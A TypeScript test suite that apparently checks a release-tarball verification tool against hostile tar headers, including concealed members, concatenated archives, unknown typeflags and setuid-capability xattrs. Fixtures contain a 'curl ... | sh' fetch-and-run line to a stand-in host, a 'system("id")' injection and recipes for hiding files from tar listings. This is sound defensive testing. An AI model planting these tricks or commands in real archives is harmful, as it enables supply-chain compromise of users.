/**
 * Hostile tar headers, end to end through the built CLI: pax and GNU extensions used to disguise names and
 * sizes, broken framing, checksums, base-256 numbers, sparse entries, data after the end, header-only archives.
 */
import { execFileSync } from 'node:child_process';
import { chmodSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { makeTar, rawPaxEntry, rawTar, rawTarEntry, rawTarHeader, TAR_END } from '../helpers/archives.js';
import { writeFiles } from '../helpers/git.js';
import { restoredAttribute } from '../../src/scan/tar.js';
import { tempDir } from '../helpers/tmp.js';
import { baseEntries, expectError, expectFindings, FILES, findingTriples, LONG_PATH, makeFixtureRepo, PREFIX, runCli, writePkgTar, type Fixture } from './helpers.js';

const dir = tempDir('distdiff-hostile-headers-');
const cache = join(dir, 'cache');
let fx: Fixture;
let n = 0;

beforeAll(() => {
  fx = makeFixtureRepo(join(dir, 'repo'));
});

const P = (p: string) => `${PREFIX}/${p}`;

function cli(file: string) {
  return runCli([file, '--repo', fx.repo.dir, '--tag', 'v1.0', '--cache-dir', cache]);
}
function run(extra: Buffer[], skip: string[] = []) {
  return cli(writePkgTar(join(dir, `case-${++n}.tar`), extra, skip));
}
function runRaw(bytes: Buffer) {
  const file = join(dir, `raw-${++n}.tar`);
  writeFileSync(file, bytes);
  return { file, result: cli(file) };
}

/** Rewrite a header block in place with `edit`, then fix its checksum. */
function patchHeader(h: Buffer, edit: (h: Buffer) => void): Buffer {
  edit(h);
  h.fill(0x20, 148, 156);
  let sum = 0;
  for (let i = 0; i < 512; i++) sum += h[i]!;
  h.write(sum.toString(8).padStart(6, '0') + '\0 ', 148, 8, 'latin1');
  return h;
}

/** A base-256 (GNU binary) 12-byte number field. */
function base256(v: bigint): Buffer {
  const b = Buffer.alloc(12);
  let x = v;
  for (let i = 11; i >= 1; i--) {
    b[i] = Number(x & 0xffn);
    x >>= 8n;
  }
  b[0] = 0x80;
  return b;
}

describe.concurrent('hostile tar headers', () => {
  it('GNU long name (././@LongLink) for a tracked file: read as the long path, identical', async () => {
    // The baseline writes LONG_PATH through an 'L' record already; nothing else differs.
    expectFindings(await run([]), []);
  });

  it('pax path record for a tracked file longer than 100 bytes: identical', async () => {
    const pax = rawPaxEntry({ path: P(LONG_PATH) });
    expectFindings(await run([pax, rawTarEntry('ignored-ustar-name', 'long\n')], [LONG_PATH]), []);
  });

  it('pax path overriding a harmless ustar name (NEWS → src/main.c): the pax name is the one compared', async () => {
    const r = await run([rawPaxEntry({ path: P('src/main.c') }), rawTarEntry(P('NEWS'), 'int main(void) { return 66; }\n')]);
    expectFindings(r, [
      ['DUPLICATE_ENTRY', 'high', 'src/main.c'],
      ['SOURCE_MODIFIED', 'high', 'src/main.c'],
    ]);
  });

  it('GNU long link (K) for a symlink target past 100 bytes: the full target is compared', async () => {
    const target = `../${'x'.repeat(150)}`;
    const k = rawTarEntry('././@LongLink', target + '\0', { type: 'K', magic: 'gnu' });
    const r = await run([k, rawTarEntry(P('lnk'), '', { type: '2', linkname: 'short', magic: 'gnu' })]);
    expectFindings(r, [
      ['LINK_ESCAPES_TREE', 'high', 'lnk'],
      ['TARBALL_ONLY_UNEXPLAINED', 'high', 'lnk'],
    ]);
    expect(r.json!.findings.find((f) => f.code === 'LINK_ESCAPES_TREE')!.evidence).toMatchObject({ target });
  });

  it('pax size overriding a zero ustar size: the pax size frames the data, identical', async () => {
    const r = await run([rawPaxEntry({ size: '6' }), Buffer.concat([rawTarHeader(P('README'), 0), Buffer.from('hello\n'), Buffer.alloc(506)])], ['README']);
    expectFindings(r, []);
  });

  it('pax size larger than the data that follows: the archive is corrupt (exit 2)', async () => {
    const r = await run([rawPaxEntry({ size: '5000' }), rawTarEntry(P('NEWS'), 'short\n')]);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/^distdiff: .*case-\d+\.tar: tar is corrupt: /);
  });

  it('global pax header naming the release commit: PAX_COMMIT note that matches', async () => {
    const file = join(dir, `gc-${++n}.tar`);
    writeFileSync(file, rawTar(rawPaxEntry({ comment: fx.commit }, true), ...baseEntries()));
    const g = await cli(file);
    expectFindings(g, []);
    expect(g.json!.notes).toContainEqual({ code: 'PAX_COMMIT', commit: fx.commit, matches: true });
  });

  it('global pax header claiming a commit the repository lacks, content equal to the tag: METADATA_COMMIT_UNKNOWN medium', async () => {
    const file = join(dir, `gw-${++n}.tar`);
    writeFileSync(file, rawTar(rawPaxEntry({ comment: 'f'.repeat(40) }, true), ...baseEntries()));
    const r = await cli(file);
    expectFindings(r, [['METADATA_COMMIT_UNKNOWN', 'medium', 'pax_global_header']]);
  });

  it('the same claim with an unexplained added file: REVISION_MISMATCH high', async () => {
    const file = join(dir, `gw-${++n}.tar`);
    writeFileSync(file, rawTar(rawPaxEntry({ comment: 'f'.repeat(40) }, true), ...baseEntries(), rawTarEntry(P('payload.bin'), 'x\u0000y')));
    const r = await cli(file);
    expectFindings(r, [['REVISION_MISMATCH', 'high', 'pax_global_header'], ['TARBALL_ONLY_UNEXPLAINED', 'high', 'payload.bin']]);
  });

  it('global pax header setting path= for every later member: refused (extractors disagree)', async () => {
    const { file, result } = runRaw(rawTar(rawPaxEntry({ path: P('README') }, true), ...baseEntries()));
    expectError(await result, file, /^tar is corrupt: pax global header at offset 0 sets "path"/);
  });

  it('declared size larger than the stream (last entry cut short): exit 2, truncated', async () => {
    const { file, result } = runRaw(Buffer.concat([...baseEntries(), rawTarHeader(P('NEWS'), 1000), Buffer.from('only a little')]));
    expectError(await result, file, /^tar is corrupt: archive is truncated: an entry's data is cut off at offset \d+/);
  });

  it('declared size smaller than the data: the rest is read as a header and fails its checksum', async () => {
    const body = Buffer.alloc(1024, 0x41);
    const { file, result } = runRaw(rawTar(...baseEntries(), rawTarHeader(P('NEWS'), 10), body));
    expectError(await result, file, /^tar is corrupt: header checksum mismatch at offset \d+/);
  });

  it('bad header checksum in the middle of the archive: exit 2 naming the offset', async () => {
    const { file, result } = runRaw(rawTar(...baseEntries(), rawTarEntry(P('NEWS'), 'x\n', { badChecksum: true })));
    expectError(await result, file, /^tar is corrupt: header checksum mismatch at offset \d+;/);
  });

  it('base-256 size field: decoded, identical', async () => {
    const h = patchHeader(rawTarHeader(P('README'), 6), (b) => base256(6n).copy(b, 124));
    expectFindings(await run([Buffer.concat([h, Buffer.from('hello\n'), Buffer.alloc(506)])], ['README']), []);
  });

  it('base-256 size beyond 2^53 (a multi-petabyte claim): exit 2, bad size field', async () => {
    const h = patchHeader(rawTarHeader(P('huge'), 0), (b) => base256(1n << 60n).copy(b, 124));
    const { file, result } = runRaw(rawTar(...baseEntries(), h));
    expectError(await result, file, /^tar is corrupt: bad size field at offset \d+/);
  });

  it('negative base-256 size: exit 2, bad size field', async () => {
    const h = patchHeader(rawTarHeader(P('neg'), 0), (b) => b.fill(0xff, 124, 136));
    const { file, result } = runRaw(rawTar(...baseEntries(), h));
    expectError(await result, file, /^tar is corrupt: bad size field at offset \d+/);
  });

  it('GNU sparse entry (type S) claiming 1 GiB: SPARSE_FILE, never materialised', async () => {
    const h = patchHeader(rawTarHeader(P('holes.bin'), 0, { type: 'S', magic: 'gnu' }), (b) => {
      b.write((1024 ** 3).toString(8).padStart(11, '0') + '\0', 483, 12, 'latin1');
    });
    const r = await run([h]);
    expectFindings(r, [
      ['SPARSE_FILE', 'medium', 'holes.bin'],
      ['TARBALL_ONLY_UNEXPLAINED', 'high', 'holes.bin'],
    ]);
    expect(r.json!.findings.find((f) => f.code === 'SPARSE_FILE')!.evidence).toEqual({ size: 1024 ** 3 });
  });

  it('trailing garbage after the end-of-archive marker: TRAILING_DATA', async () => {
    const { result } = runRaw(Buffer.concat([rawTar(...baseEntries()), Buffer.from('#!/bin/sh\necho hidden payload\n')]));
    const r = await result;
    expectFindings(r, [['TRAILING_DATA', 'medium', '']]);
  });

  // Red team 14: this was TRAILING_DATA alone (medium, exit 0), yet `tar --ignore-zeros` — how concatenated archives
  // are read — extracts the second archive's README over the verified one.
  it('concatenated archives: the second (evil README) is not what tar extracts by default, but tar -i does: MEMBERS_AFTER_END high', async () => {
    const second = rawTar(rawTarEntry(P('README'), 'evil\n'));
    const first = rawTar(...baseEntries());
    const { result } = runRaw(Buffer.concat([first, second]));
    const r = await result;
    expectFindings(r, [['MEMBERS_AFTER_END', 'high', ''], ['TRAILING_DATA', 'medium', '']]);
    // The second archive's first header starts where the first archive ends.
    expect(r.json!.findings.find((f) => f.code === 'TRAILING_DATA')!.evidence).toEqual({ bytes: second.length, offset: first.length });
    expect(r.json!.findings.find((f) => f.code === 'MEMBERS_AFTER_END')!.evidence).toEqual({ offset: first.length, name: P('README') });
  });

  // Red team 30: a regular-file entry whose name ends in '/' is a directory to GNU tar, which then reads its data as
  // the next headers (`tar -x` extracts them, `tar -t` lists none): a tracked file was overwritten unseen, and only the
  // carrier was reported (as a file of header bytes). Read as tar extracts it, the hidden member is compared.
  it('a file entry named with a trailing slash: tar -x makes it a directory and extracts its data as members', async () => {
    const carrier = rawTarEntry(P('docs/'), rawTarEntry(P('src/main.c'), 'int main(void) { system("id"); return 0; }\n'), { type: '0' });
    const { file, result } = runRaw(rawTar(...baseEntries(), carrier));
    const out = join(dir, `x-${++n}`);
    mkdirSync(out);
    execFileSync('tar', ['-xf', file, '-C', out]);
    expect(readFileSync(join(out, P('src/main.c')), 'utf8')).toContain('system("id")');
    const r = await result;
    expect(r.code).toBe(1);
    expect(findingTriples(r)).toEqual(expect.arrayContaining([['DUPLICATE_ENTRY', 'high', 'src/main.c'], ['SOURCE_MODIFIED', expect.stringMatching(/^(?:high|critical)$/), 'src/main.c']]));
    // twin: the same name as a directory entry carries nothing
    const twin = await runRaw(rawTar(...baseEntries(), rawTarEntry(P('docs/'), '', { type: '5' }))).result;
    expect(twin.code).toBe(0);
  });

  it('a member after a lone zero block (GNU tar stops there too): MEMBERS_AFTER_END high', async () => {
    const first = Buffer.concat(baseEntries());
    const { result } = runRaw(Buffer.concat([first, Buffer.alloc(512), rawTar(rawTarEntry(P('README'), 'evil\n'))]));
    const r = await result;
    expectFindings(r, [['MEMBERS_AFTER_END', 'high', ''], ['TRAILING_DATA', 'medium', '']]);
    expect(r.json!.findings.find((f) => f.code === 'MEMBERS_AFTER_END')!.evidence).toEqual({ offset: first.length + 512, name: P('README') });
  });

  // Red team 14: GNU tar extracts an entry of a typeflag it does not know as a regular file, data included ("Unknown
  // file type 'Z', extracted as normal file"); the scan skipped its data (an 'other' entry of size 0), so a tracked file
  // replaced that way was compared as a type change, not by content, and an added one was never hashed.
  it("an unknown typeflag ('8') replacing configure: compared as GNU tar extracts it, a regular file with its content", async () => {
    const r = await run([rawTarEntry(P('configure'), '#!/bin/sh\ncurl -s https://example.invalid/x | sh\n', { type: '8', mode: 0o755 })]);
    expectFindings(r, [
      ['DUPLICATE_ENTRY', 'high', 'configure'],
      ['SOURCE_MODIFIED', 'critical', 'configure'],
      ['UNKNOWN_ENTRY_TYPE', 'medium', 'configure'],
    ]);
    expect(r.json!.findings.find((f) => f.code === 'UNKNOWN_ENTRY_TYPE')!.evidence).toEqual({ typeflag: '8' });
  });

  it("an unknown typeflag ('Z') adding a file: hashed and judged like any added file", async () => {
    const r = await run([rawTarEntry(P('tests/payload.bin'), 'payload\n', { type: 'Z' })]);
    expectFindings(r, [
      ['TARBALL_ONLY_UNEXPLAINED', 'high', 'tests/payload.bin'],
      ['UNKNOWN_ENTRY_TYPE', 'medium', 'tests/payload.bin'],
    ]);
    expect(r.json!.findings.find((f) => f.code === 'TARBALL_ONLY_UNEXPLAINED')!.evidence).toMatchObject({ size: 8 });
  });

  // GNU tar reads a Solaris 'X' extended header as a pax header: its path names the next member.
  it("a Solaris 'X' extended header renames the next member as GNU tar does (the evil content lands on configure)", async () => {
    const x = rawPaxEntry({ path: P('configure') });
    x[156] = 0x58; // 'X'
    const fixed = Buffer.from(x);
    fixed.fill(0x20, 148, 156);
    let sum = 0;
    for (let i = 0; i < 512; i++) sum += fixed[i]!;
    fixed.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148, 'latin1');
    const r = await run([fixed, rawTarEntry(P('doc/notes.txt'), '#!/bin/sh\ncurl -s https://example.invalid/x | sh\n', { mode: 0o755 })]);
    expectFindings(r, [
      ['DUPLICATE_ENTRY', 'high', 'configure'],
      ['SOURCE_MODIFIED', 'critical', 'configure'],
    ]);
  });

  // Red team 15: bsdtar (libarchive) run as root restores a pax header's extended attributes, ACLs and file flags by
  // default (GNU tar with --xattrs/--acls); the content of configure is git's, so nothing else differs, and before this
  // check the archive was IDENTICAL, exit 0, while extracting it gave configure the capabilities of a setuid-root file.
  it('configure, identical to git, with a security.capability xattr (cap_setuid): EXTENDED_ATTRIBUTES high, exit 1', async () => {
    const cap = Buffer.from('0100000280000000000000000000000000000000', 'hex'); // VFS_CAP_REVISION_2, effective, CAP_SETUID
    const r = await run([rawPaxEntry({ 'SCHILY.xattr.security.capability': cap }), rawTarEntry(P('configure'), FILES.configure![0], { mode: 0o755 })], ['configure']);
    expect(r.code).toBe(1);
    expectFindings(r, [['EXTENDED_ATTRIBUTES', 'high', 'configure']]);
    expect(r.json!.findings[0]!.evidence).toEqual({ attributes: ['xattr security.capability'] });
    // libarchive's own spelling (URL-encoded name), an ACL and a file flag on README
    const r2 = await run([rawPaxEntry({ 'LIBARCHIVE.xattr.trusted%2Eoverlay': 'y', 'SCHILY.acl.access': 'user::rw-,user:nobody:rwx,group::r--,mask::rwx,other::r--', 'SCHILY.fflags': 'schg' }), rawTarEntry(P('README'), FILES.README![0])], ['README']);
    expectFindings(r2, [['EXTENDED_ATTRIBUTES', 'high', 'README']]);
    expect(r2.json!.findings[0]!.evidence).toEqual({ attributes: ['acl access', 'fflags', 'xattr trusted.overlay'] });
  });

  it('a pax global header setting an ACL for every later member: EXTENDED_ATTRIBUTES high for the archive', async () => {
    const file = join(dir, `global-${++n}.tar`);
    writeFileSync(file, rawTar(rawPaxEntry({ 'SCHILY.acl.default': 'user:nobody:rwx' }, true), ...baseEntries()));
    const g = await cli(file);
    expectFindings(g, [['EXTENDED_ATTRIBUTES', 'high', '']]);
    expect(g.json!.findings[0]!.evidence).toEqual({ attributes: ['acl default'], global: true });
  });

  it('made by GNU tar (--pax-option): an ACL is high; user.* and com.apple.* attributes alone are not reported', async () => {
    const tree = join(dir, `gnu-${++n}`);
    writeFiles(join(tree, PREFIX), Object.fromEntries(Object.entries(FILES).map(([p, [c]]) => [p, c])));
    chmodSync(join(tree, PREFIX, 'configure'), 0o755);
    const benign = makeTar(join(tree, PREFIX), { format: 'pax', args: ['--pax-option=SCHILY.xattr.user.note:=x,SCHILY.xattr.com.apple.provenance:=y'] });
    const b = await cli(benign);
    expect(b.code).toBe(0);
    expectFindings(b, []);
    const acl = makeTar(join(tree, PREFIX), { format: 'pax', args: ['--pax-option=SCHILY.xattr.user.note:=x,SCHILY.acl.access:=user:nobody:rwx'] });
    const a = await cli(acl);
    expect(a.code).toBe(1);
    // every member gets the record: one finding per file and directory
    expect(new Set(a.json!.findings.map((f) => `${f.code} ${f.severity}`))).toEqual(new Set(['EXTENDED_ATTRIBUTES high']));
    expect(a.json!.findings.map((f) => f.path)).toContain('configure');
    expect(a.json!.findings.find((f) => f.path === 'configure')!.evidence).toEqual({ attributes: ['acl access'] });
  });

  it('restoredAttribute: which pax keywords an extractor restores', () => {
    expect(restoredAttribute('SCHILY.xattr.security.capability')).toBe('xattr security.capability');
    expect(restoredAttribute('LIBARCHIVE.xattr.security%2Eselinux')).toBe('xattr security.selinux');
    expect(restoredAttribute('RHT.security.selinux')).toBe('xattr security.selinux');
    expect(restoredAttribute('SCHILY.xattr.system.posix_acl_access')).toBe('xattr system.posix_acl_access');
    expect(restoredAttribute('SCHILY.acl.ace')).toBe('acl ace');
    expect(restoredAttribute('SCHILY.fflags')).toBe('fflags');
    for (const k of ['SCHILY.xattr.user.note', 'LIBARCHIVE.xattr.com.apple.quarantine', 'SCHILY.dev', 'SCHILY.ino', 'SCHILY.nlink', 'LIBARCHIVE.creationtime', 'mtime', 'atime', 'ctime', 'uname', 'comment']) {
      expect(restoredAttribute(k), k).toBeUndefined();
    }
  });

  it('an archive that is nothing but extended headers: exit 2', async () => {
    const { file, result } = runRaw(Buffer.concat([rawPaxEntry({ path: P('README') }), rawPaxEntry({ path: P('x') }), TAR_END]));
    expectError(await result, file, /^tar is corrupt: extended header at offset \d+ is followed by the end of the archive/);
  });

  it('an archive of directory headers only (no files): exit 2, nothing to compare', async () => {
    const { file, result } = runRaw(rawTar(rawTarEntry(`${PREFIX}/`, '', { type: '5' }), rawTarEntry(P('src/'), '', { type: '5' })));
    expectError(await result, file, /^the archive contains no files/);
  });

  it('an archive that is only the end-of-archive marker: exit 2, nothing to compare', async () => {
    const { file, result } = runRaw(TAR_END);
    expectError(await result, file, /^the archive contains no files/);
  });
});
